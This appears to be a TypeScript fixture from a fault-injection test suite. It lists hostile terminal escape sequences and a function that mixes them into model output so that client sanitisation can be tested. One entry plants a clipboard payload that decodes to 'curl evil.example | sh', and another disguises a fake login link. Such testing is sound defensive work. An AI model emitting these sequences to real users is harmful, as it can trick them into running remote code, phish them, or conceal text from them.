// Terminal escape sequences for the `hostile` fault. LLM output is untrusted (DESIGN.md, "Everything
// from the server is untrusted text"); this is the text a malicious or broken model could produce.
// They travel inside JSON strings (as \u001b escapes or raw C1 code points), exactly like real output.

import type { Prng } from './prng.js';

export const HOSTILE_SEQUENCES: readonly string[] = [
  '\x1b[31;1mALERT\x1b[0m', // CSI SGR colours
  '\x1b[2J\x1b[H', // clear screen, cursor home
  '\x1b[5A\x1b[2K', // cursor up, erase line
  '\x1b[?1049l', // leave the alternate screen
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', // OSC 52: write the clipboard
  '\x1b]8;;https://evil.example/login\x1b\\click here\x1b]8;;\x1b\\', // OSC 8 hyperlink
  '\x1b]0;owned terminal\x07', // OSC 0: window title
  '\x1bP+q544e\x1b\\', // DCS request
  '\u009b31mC1-CSI\u009b0m', // C1 CSI (single code point)
  '\u009d0;c1-osc\u009c', // C1 OSC … ST
  '\x07\x07', // BEL
  '\r\x1b[K', // carriage return + erase: overwrite the visible line
];

/** Insert one or two escape sequences at word boundaries of `text`. */
export function contaminate(text: string, rng: Prng): string {
  const words = text.split(' ');
  const count = rng.int(1, 2);
  for (let i = 0; i < count; i++) {
    const at = rng.int(0, words.length);
    words.splice(at, 0, rng.pick(HOSTILE_SEQUENCES));
  }
  return words.join(' ');
}
